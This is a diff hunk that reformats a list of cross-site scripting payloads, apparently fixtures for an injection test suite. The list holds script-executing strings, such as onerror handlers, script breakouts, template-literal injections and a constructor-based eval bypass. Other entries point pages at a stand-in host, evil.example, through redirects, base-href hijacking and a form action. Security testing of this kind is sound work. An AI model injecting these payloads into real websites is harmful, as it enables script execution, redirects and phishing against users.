@@ -32,10 +32,12 @@ PAYLOADS = [
     "<img src=x onerror=alert(1)>", "<img src='data:,' onerror=alert(1)>", "</script><script>alert(2)</script>",
     "`);alert(3);//", "`+alert(4)+`", "${alert(5)}", "'-alert(6)-'", '"-alert(7)-"', "<svg onload=alert(8)>",
     "<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>", "<a href='javascript:alert(10)'>x</a>",
-    "<!--<script>", "-->", "]]>", "<style>@import 'http://evil.example/a.css'</style>", "\\u003cimg src=x onerror=alert(11)>",
+    "<!--<script>", "-->", "]]>", "<style>@import 'http://evil.example/a.css'</style>",
+    "\\u003cimg src=x onerror=alert(11)>",
     "<img src=http://evil.example/a.png>", "<base href='http://evil.example/'>",
     "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<form action=http://evil.example><button>x",
-    "`;location='http://evil.example/';//", "`;this.alert(12);//", "`;L['con'+'structor'].constructor('alert(13)')();//",
+    "`;location='http://evil.example/';//", "`;this.alert(12);//",
+    "`;L['con'+'structor'].constructor('alert(13)')();//",
     "`;top.alert(14);//", "<details open ontoggle=alert(15)>", "<math><mtext></p><script>alert(16)</script>", "{{7*7}}",
 ]  # fmt: skip
 
